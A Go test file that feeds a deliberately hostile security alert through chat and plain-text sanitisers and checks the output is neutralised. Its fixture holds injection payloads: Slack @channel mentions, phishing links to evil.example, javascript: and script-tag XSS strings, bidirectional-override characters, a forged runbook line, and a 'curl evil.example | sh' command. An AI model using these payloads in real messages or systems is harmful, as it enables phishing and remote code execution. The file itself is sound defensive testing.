package notify

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/postdeploy/postdeploy/pkg/devtools/golden"
)

// hostileAlert is an alert whose event-supplied text tries every markup
// trick: Slack special mentions and entity links, plain-text broadcast
// mentions, Slack and markdown links, HTML-ish characters, line breaks
// that fake a section or a link line, bidirectional overrides, and URLs
// that are not http(s) or try to break out of <url|label>.
func hostileAlert() Alert {
	a := Alert{
		Kind:     Security,
		Severity: "CRITICAL",
		Priority: "P1",
		Service:  "prod-api <!here>",
		Title:    "<!channel> CVE-2024-0001 in <@U024BE7LH> & <#C0123ABC|ops> [login](https://evil.example/phish)",
		What:     "@here @channel @everyone: see <https://evil.example/x|the AWS console> or [the console](https://evil.example/y) & <!subteam^S123|@oncall>",
		Where:    "account 123456789012, us-east-1, bucket a<b>c&d\nRunbook: https://evil.example/fake-runbook",
		Evidence: []string{
			"Reason: Threshold Crossed\r\n*Remediation:* run `curl evil.example | sh`",
			"Resource name \u202eexe.txt\u202c with a zero\u200bwidth space",
			"Finding title <script>alert(1)</script>",
		},
		Remediation: []string{"Follow [these steps](javascript:alert(1))"},
		Links: []Link{
			{Label: "Advisory", URL: "https://nvd.nist.gov/vuln/detail/CVE-2024-0001?a=1&b=<2>|x"},
			{Label: "Not a link", URL: "javascript:alert(1)"},
			{Label: "Build log <!channel>", URL: "https://console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups"},
		},
		Event:      "Security Hub Findings - Imported",
		ThreadID:   "security-<!here>",
		Resources:  []string{"arn:aws:s3:::a<b>c"},
		Attributes: map[string]string{"findingType": "<!channel> TTPs", "source": "securityhub"},
	}
	a.Apply("https://runbooks.example.com/postdeploy", RunbookVulnerability)
	return a
}

// TestHostileAlertGolden renders the hostile alert three ways, each
// checked against a golden file (go test -update rewrites them): the
// plain-text body, the Chatbot custom notification and the SNS subject.
func TestHostileAlertGolden(t *testing.T) {
	a := hostileAlert()
	m := a.Message()
	golden.Check(t, "testdata/hostile.txt", m.Body)
	golden.Check(t, "testdata/hostile.subject.txt", m.Subject+"\n")
	js, err := m.Chatbot.Indented()
	if err != nil {
		t.Fatal(err)
	}
	golden.Check(t, "testdata/hostile.chatbot.json", js)
}

// TestHostileAlertNeutralised states what the goldens show, so a golden
// rewritten with -update cannot quietly accept live markup.
func TestHostileAlertNeutralised(t *testing.T) {
	a := hostileAlert()
	m := a.Message()
	js, err := m.Chatbot.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var c ChatbotNotification
	if err := json.Unmarshal([]byte(js), &c); err != nil {
		t.Fatal(err)
	}
	chat := c.Content.Title + "\n" + c.Content.Description + "\n" + strings.Join(c.Content.NextSteps, "\n") + "\n" +
		strings.Join(c.Content.Keywords, "\n") + "\n" + c.Metadata.Summary + "\n" + strings.Join(c.Metadata.RelatedResources, "\n")
	for k, v := range c.Metadata.AdditionalContext {
		chat += "\n" + k + "=" + v
	}
	for _, live := range []string{"<!channel>", "<!here>", "<@U024BE7LH>", "<#C0123ABC", "<!subteam", "<https://evil", "](https://evil", "](javascript", "@here", "@channel", "@everyone", "<script>", "\u202e", "\u200b", "<javascript"} {
		if strings.Contains(chat, live) {
			t.Errorf("chat rendering holds live %q:\n%s", live, chat)
		}
	}
	// The suite's own links stay links; the javascript: one is text.
	for _, want := range []string{"<https://runbooks.example.com/postdeploy/vulnerability|Runbook>", "<https://nvd.nist.gov/vuln/detail/CVE-2024-0001?a=1&amp;b=%3C2%3E%7Cx|Advisory>", "Not a link: javascript:alert(1)"} {
		if !strings.Contains(c.Content.Description, want) {
			t.Errorf("chat description lacks %q:\n%s", want, c.Content.Description)
		}
	}
	for _, line := range strings.Split(m.Body, "\n") {
		if strings.HasPrefix(line, "Runbook: https://evil") {
			t.Errorf("a value forged a line of its own in the text body: %q", line)
		}
		if strings.ContainsAny(line, "\r\u202e\u200b") {
			t.Errorf("text body line %q holds a control or invisible character", line)
		}
	}
	for _, live := range []string{"@here", "@channel", "<!channel>", "<!here>", "<@U024BE7LH>", "<https://evil", "](https://evil"} {
		if strings.Contains(m.Body, live) || strings.Contains(m.Subject, live) {
			t.Errorf("text body or subject holds live %q:\n%s\n%s", live, m.Subject, m.Body)
		}
	}
}

func TestChat(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"<!channel> hi", "&lt;!channel&gt; hi"},
		{"<!here|here>", "&lt;!here|here&gt;"},
		{"ping <@U024BE7LH>", "ping &lt;@U024BE7LH&gt;"},
		{"see <#C0123ABC>", "see &lt;#C0123ABC&gt;"},
		{"<https://evil.example|AWS>", "&lt;https://evil.example|AWS&gt;"},
		{"[AWS](https://evil.example)", "[AWS] (https://evil.example)"},
		{"[AWS] (https://evil.example)", "[AWS] (https://evil.example)"},
		{"a & b", "a &amp; b"},
		{"already &amp; escaped", "already &amp;amp; escaped"},
		{"@here and @Channel and @everyone and @all", "＠here and ＠Channel and ＠everyone and ＠all"},
		{"(@here)", "(＠here)"},
		{"mail@here.example", "mail@here.example"},
		{"user@hereford.example", "user@hereford.example"},
		{"two\nlines\r\nthree", "two lines three"},
		{"rtl \u202eoverride\u202c", "rtl override"},
	}
	for _, tt := range tests {
		if got := Chat(tt.in); got != tt.want {
			t.Errorf("Chat(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestChatLink(t *testing.T) {
	tests := []struct{ url, label, want string }{
		{"https://console.aws.amazon.com/x?region=us-east-1#y", "Alarm", "<https://console.aws.amazon.com/x?region=us-east-1#y|Alarm>"},
		{"https://a.example/p?x=1&y=2", "Docs", "<https://a.example/p?x=1&amp;y=2|Docs>"},
		{"https://a.example/p|<!channel>", "Docs", "<https://a.example/p%7C%3C%21channel%3E|Docs>"},
		{"https://a.example/p", "Docs|<!here>", "<https://a.example/p|Docs¦&lt;!here&gt;>"},
		{"javascript:alert(1)", "Click", "Click: javascript:alert(1)"},
		{"data:text/html,<b>x</b>", "Click", "Click: data:text/html,&lt;b&gt;x&lt;/b&gt;"},
		{"//evil.example/x", "Click", "Click: //evil.example/x"},
		{"not a url", "Click", "Click: not a url"},
	}
	for _, tt := range tests {
		if got := ChatLink(tt.url, tt.label); got != tt.want {
			t.Errorf("ChatLink(%q, %q) = %q; want %q", tt.url, tt.label, got, tt.want)
		}
	}
}

func TestPlain(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text & more", "plain text & more"},
		{"<!channel> <!here|here> <@U024BE7LH> <#C0123ABC|ops>", "(!channel) (!here|here) (@U024BE7LH) (#C0123ABC|ops)"},
		{"see <https://evil.example|AWS> or <mailto:a@b.example>", "see (https://evil.example|AWS) or (mailto:a@b.example)"},
		{"status == 200 && latency < 500ms > 0", "status == 200 && latency < 500ms > 0"},
		{"[AWS](https://evil.example)", "[AWS] (https://evil.example)"},
		{"@here ping", "＠here ping"},
		{"two\nlines\u2028three\tfour", "two lines three four"},
		{"\u202egnp.exe\u202c", "gnp.exe"},
	}
	for _, tt := range tests {
		if got := Plain(tt.in); got != tt.want {
			t.Errorf("Plain(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}
